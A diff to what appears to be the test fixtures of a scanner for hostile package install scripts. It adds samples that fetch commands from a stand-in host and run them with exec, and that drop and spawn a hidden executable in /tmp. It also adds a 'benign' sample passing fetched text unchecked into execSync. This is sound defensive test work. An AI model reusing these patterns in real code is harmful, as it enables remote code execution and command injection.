@@ -23,6 +23,20 @@ const CODES = Array.from(PAYLOAD)
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a command from a server',
+      files: installed(
+        `const cp = require('child_process');\nfetch('https://a.weir.test/c').then((r) => r.text()).then((c) => cp.exec(c));\n`,
+      ),
+      expected: [at('remote-command', 'high', 2, 'setup.js')],
+    },
+    {
+      name: 'a dropped program',
+      files: installed(
+        `const fs = require('fs'), cp = require('child_process');\nconst body = Buffer.from('${hide('#!/bin/sh\nid > /dev/null\n')}', 'base64');\nfs.writeFileSync('/tmp/.x', body, { mode: 0o755 });\ncp.spawn('/tmp/.x', { detached: true });\n`,
+      ),
+      expected: [at('dropped-file', 'high', 3, 'setup.js')],
+    },
+    {
       name: 'base64 into eval at install',
       files: installed(`eval(Buffer.from('${hide(PAYLOAD)}', 'base64').toString());\n`),
       expected: [at('decoded-code', 'critical', 1, 'setup.js')],
@@ -104,6 +118,18 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a tool asked for the newest version',
+      installed(
+        `const cp = require('child_process');\nfetch('https://api.weir.test/v').then((r) => r.text()).then((v) => cp.execSync('git checkout ' + v));\n`,
+      ),
+    ),
+    quiet(
+      'an icon written where it belongs',
+      installed(
+        `require('fs').writeFileSync('icon.svg', Buffer.from('${hide('<svg xmlns="x"></svg>')}', 'base64'));\n`,
+      ),
+    ),
     quiet(
       'data in base64',
       imported(
